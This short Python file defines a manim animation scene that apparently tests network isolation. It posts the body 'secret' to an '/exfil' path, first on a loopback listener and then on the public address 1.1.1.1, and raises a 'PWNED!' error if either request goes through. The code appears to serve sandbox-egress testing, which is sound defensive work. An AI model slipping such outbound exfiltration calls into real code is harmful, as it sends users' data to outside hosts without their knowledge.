"""http.client POST to the loopback listener, then to a public address."""
from manim import *
import http.client

PWNED = "PWN" + "ED!"


class HttpClient(Scene):
    def construct(self):
        for host, port in (("127.0.0.1", int("@TCP_PORT@")), ("1.1.1.1", 80)):
            conn = http.client.HTTPConnection(host, port, timeout=2)
            conn.request("POST", "/exfil", body=b"secret")
            raise RuntimeError(f"{PWNED} posted to {host}:{port}: {conn.getresponse().status}")
